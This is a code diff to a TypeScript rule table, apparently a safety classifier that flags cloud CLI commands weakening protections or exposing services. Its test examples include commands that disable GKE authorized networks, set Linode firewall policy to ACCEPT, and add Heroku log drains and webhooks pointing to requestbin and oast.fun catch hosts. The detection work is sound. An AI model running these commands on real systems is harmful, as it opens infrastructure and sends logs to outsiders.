@@ -1,6 +1,6 @@
 import type { Row } from '../command/row.js';
 import { addressesOfAnybody } from '../anybodys-hosts.js';
-import { changes, GIVES_RIGHTS } from './conditions/cloud-changes.js';
+import { changesCloud, GIVES_RIGHTS } from './conditions/cloud-changes.js';
 
 /** Options of `gcloud` that take a value. */
 const GCLOUD = {
@@ -49,11 +49,11 @@ export const CLOUD_OPENINGS: readonly Row[] = [
     options: GCLOUD,
     variants: ONLY_SHOWN,
     effects: [
-      changes('protection', { argument: /^(?:reset|set-policy|disable-enforce|set-mute)$/ }),
-      changes('protection', { line: /^(?:org-policies|muteconfigs|policy import)/ }),
-      changes('protection', { any: ['--no-enable-master-authorized-networks', '--enable-legacy-authorization', '--no-enable-network-policy', '--no-enable-shielded-nodes', '--no-deletion-protection', '--no-shielded-secure-boot', '--no-enable-flow-logs', '--no-enable-private-endpoint'] }),
-      changes('protection', { value: /^--retention-days=[1-7]$/ }),
-      changes('open to all', { value: new RegExp(`^--master-authorized-networks=${ANYWHERE}`) }),
+      changesCloud('protection', { argument: /^(?:reset|set-policy|disable-enforce|set-mute)$/ }),
+      changesCloud('protection', { line: /^(?:org-policies|muteconfigs|policy import)/ }),
+      changesCloud('protection', { any: ['--no-enable-master-authorized-networks', '--enable-legacy-authorization', '--no-enable-network-policy', '--no-enable-shielded-nodes', '--no-deletion-protection', '--no-shielded-secure-boot', '--no-enable-flow-logs', '--no-enable-private-endpoint'] }),
+      changesCloud('protection', { value: /^--retention-days=[1-7]$/ }),
+      changesCloud('open to all', { value: new RegExp(`^--master-authorized-networks=${ANYWHERE}`) }),
     ],
     examples: [
       ['gcloud container clusters update a --no-enable-master-authorized-networks', 'change-service cloud:protection'],
@@ -82,8 +82,8 @@ export const CLOUD_OPENINGS: readonly Row[] = [
     options: { '--inbound-rules': 'text', '--inbound_policy': 'text', '--outbound_policy': 'text', '--rules.inbound_policy': 'text', '--source-ips': 'text', '--port': 'text', '--ports': 'text', '--remote-ip': 'text', '--dst-port': 'text', '--protocol': 'text', '--direction': 'text', '--subnet': 'text', '--size': 'text', '--cidr': 'text', '--network': 'text', '--ingress-security-rules': 'text', '--security-rules': 'text', '--remote': 'text', '--SourceCidrIp': 'text', '--PortRange': 'text', '--name': 'text', '--add-rule': 'text', '--rules-file': 'use' },
     variants: [...ONLY_SHOWN, { when: { value: OTHER_PORTS } }, { when: { value: WEB_PORTS }, effects: [] }],
     effects: [
-      changes('open to all', { value: new RegExp(`^--(?:inbound-rules|source-ips|remote-ip|subnet|cidr|network|ingress-security-rules|security-rules|remote|SourceCidrIp|add-rule)=${ANYWHERE}`) }),
-      changes('open to all', { argument: /^(?:--(?:rules\.)?inbound_policy=?)?ACCEPT$|^inbound-default-policy=accept$|^ip-range=0\.0\.0\.0\/0$/i }),
+      changesCloud('open to all', { value: new RegExp(`^--(?:inbound-rules|source-ips|remote-ip|subnet|cidr|network|ingress-security-rules|security-rules|remote|SourceCidrIp|add-rule)=${ANYWHERE}`) }),
+      changesCloud('open to all', { argument: /^(?:--(?:rules\.)?inbound_policy=?)?ACCEPT$|^inbound-default-policy=accept$|^ip-range=0\.0\.0\.0\/0$/i }),
     ],
     examples: [
       ['linode-cli firewalls rules-update 5 --inbound_policy ACCEPT --outbound_policy ACCEPT', 'change-service cloud:open to all'],
@@ -123,7 +123,7 @@ export const CLOUD_OPENINGS: readonly Row[] = [
     program: 'heroku drains:add | heroku webhooks:add | fly log-shipper setup | vercel integration add | doctl apps log-forward | gh webhook forward | gh webhook create',
     operands: 'text',
     options: { '-a': 'text', '--app': 'text', '-u': 'text', '--url': 'text', '-i': 'text', '--include': 'text', '-l': 'text', '--data': 'text' },
-    effects: [changes('open to others', { argument: new RegExp(`(?:^|[="'])${addressesOfAnybody()}`) })],
+    effects: [changesCloud('open to others', { argument: new RegExp(`(?:^|[="'])${addressesOfAnybody()}`) })],
     examples: [['heroku drains:add https://a.requestbin.net/x -a shop', 'change-service cloud:open to others'], ['heroku webhooks:add -i api:release -l notify -u https://a.oast.fun/x -a shop', 'change-service cloud:open to others'], ['heroku drains:add https://logs.x.test/drain -a shop'], ['heroku drains -a shop']],
   },
 ];
